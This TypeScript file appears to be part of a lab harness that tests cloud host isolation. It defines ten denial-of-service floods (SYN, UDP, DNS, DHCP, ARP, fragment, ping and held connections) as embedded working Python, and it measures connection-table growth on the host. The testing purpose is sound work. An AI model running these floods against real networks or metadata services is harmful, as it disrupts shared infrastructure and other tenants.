/**
 * Floods from the network of an instance. Each prints how much it has sent; the host's kernel says
 * what became of it.
 */
import { OUTSIDE_SERVER } from '../../lab/layout.ts'
import { type Attack, type AttackContext, FLOOD_SECONDS } from './attack.ts'
import { FLOOD_HEAD, pythonIn } from './flood.ts'

const GATEWAY = '172.31.0.1'
const METADATA = '169.254.169.254'

async function entries({ host }: AttackContext): Promise<number> {
  return Number(await host.must(['cat', '/proc/sys/net/netfilter/nf_conntrack_count']))
}

/** A flood, and the entries of the connection table that it got. */
function flood(
  name: string,
  shared: string,
  tried: string,
  to: (context: AttackContext) => string,
  script: string,
): Attack {
  return {
    name,
    shared,
    tried,
    async run(context) {
      const before = await entries(context)
      const said = await pythonIn(
        context.mallory,
        FLOOD_HEAD + script,
        `${FLOOD_SECONDS}`,
        to(context),
      )
      const taken = Math.max(0, (await entries(context)) - before)
      return `${said}; ${taken} more entries of the connection table`
    },
  }
}

const outside = () => OUTSIDE_SERVER
const gateway = () => GATEWAY

export const networkAttacks: readonly Attack[] = [
  flood(
    'connection-flood',
    'the connection table of the host',
    'UDP from many ports to as many, as fast as it can',
    outside,
    `
while True:
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for port in range(1000, 60000):
        try: out.sendto(b"x", (to, port))
        except OSError: pass
        if not more(): break
    else: continue
    break
print(f"{sent} datagrams")
`,
  ),
  flood(
    'syn-flood',
    'the half-open connections of the metadata service',
    'SYN packets from all its ports to the metadata address, never finishing a handshake',
    () => METADATA,
    `
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect((to, 80)); own = probe.getsockname()[0]
pseudo = socket.inet_aton(own) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, 20)
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
while True:
    head = struct.pack("!HHIIBBHHH", 1024 + sent % 60000, 80, random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    try: raw.sendto(head, (to, 0))
    except OSError: pass
    if not more(): break
print(f"{sent} SYN packets")
`,
  ),
  flood(
    'dns-flood-inside',
    'the resolver',
    'DNS queries for random names of the cloud’s own zone, as fast as it can',
    gateway,
    dnsFlood('atoll.internal'),
  ),
  flood(
    'dns-flood-outside',
    'the forwarder’s places',
    'DNS queries for random names outside, as fast as it can',
    gateway,
    dnsFlood('example.org'),
  ),
  flood(
    'dns-tcp-held',
    'connections of the resolver',
    'as many TCP connections to port 53 as it gets, held without a word',
    gateway,
    held(53),
  ),
  flood(
    'dhcp-flood',
    'the DHCP service',
    'DHCP discoveries as fast as it can, by broadcast',
    () => '255.255.255.255',
    `
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
out.bind(("0.0.0.0", 68))
message = b"\\x01\\x01\\x06\\x00" + b"\\x00" * 24 + os.urandom(6) + b"\\x00" * 202 + b"\\x63\\x82\\x53\\x63\\x35\\x01\\x01\\xff"
while True:
    try: out.sendto(message, (to, 67))
    except OSError: pass
    if not more(): break
print(f"{sent} DHCP messages")
`,
  ),
  flood(
    'metadata-held',
    'connections of the metadata service',
    'as many TCP connections to the metadata address as it gets, held without a word',
    () => METADATA,
    held(80),
  ),
  flood(
    'arp-flood',
    'the ARP queue and the neighbour table',
    'ARP requests for every address of the subnet, as fast as it can',
    gateway,
    `
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
raw.bind(("eth0", 0x0806))
mac = raw.getsockname()[4]
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect((to, 53)); own = socket.inet_aton(probe.getsockname()[0])
while True:
    target = struct.pack("!I", 0xac1f0000 + sent % 4096)
    try: raw.send(b"\\xff" * 6 + mac + b"\\x08\\x06" + bytes.fromhex("0001080006040001") + mac + own + b"\\x00" * 6 + target)
    except OSError: pass
    if not more(): break
print(f"{sent} ARP requests")
`,
  ),
  flood(
    'fragment-flood',
    'the memory for fragments',
    'first fragments of datagrams whose rest never comes',
    outside,
    `
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); probe.connect((to, 53)); own = socket.inet_aton(probe.getsockname()[0])
while True:
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1420, sent & 0xffff, 0x2000, 64, 17, 0, own, socket.inet_aton(to))
    try: raw.sendto(head + b"\\x00" * 1400, (to, 0))
    except OSError: pass
    if not more(): break
print(f"{sent} fragments")
`,
  ),
  flood(
    'ping-flood',
    'the processor that handles packets',
    'echo requests to the gateway and to a neighbour, as fast as it can',
    ({ neighbour }) => neighbour.ip,
    `
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
packet = struct.pack("!BBHHH", 8, 0, 0xf7ff & 0xffff, 0, 0)
while True:
    try: raw.sendto(packet, ("${GATEWAY}" if sent % 2 else to, 0))
    except OSError: pass
    if not more(): break
print(f"{sent} echo requests")
`,
  ),
]

function dnsFlood(zone: string): string {
  const labels = zone
    .split('.')
    .map((label) => `\\x${label.length.toString(16).padStart(2, '0')}${label}`)
    .join('')
  return `
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    name = b"\\x08" + ("%08x" % random.getrandbits(32)).encode() + b"${labels}\\x00"
    try: out.sendto(struct.pack("!HHHHHH", sent & 0xffff, 0x100, 1, 0, 0, 0) + name + b"\\x00\\x01\\x00\\x01", (to, 53))
    except OSError: pass
    if not more(): break
print(f"{sent} queries")
`
}

function held(port: number): string {
  return `
held = []
while time.monotonic() < end:
    connection = socket.socket(); connection.settimeout(0.2)
    try:
        connection.connect((to, ${port})); held.append(connection)
    except OSError: time.sleep(0.01)
    if len(held) >= 4000: time.sleep(0.1)
open_now = 0
for connection in held:
    connection.settimeout(0.001)
    try:
        if connection.recv(1) != b"": open_now += 1
    except TimeoutError: open_now += 1
    except OSError: pass
print(f"{len(held)} connections made, {open_now} of them open at the end")
`
}
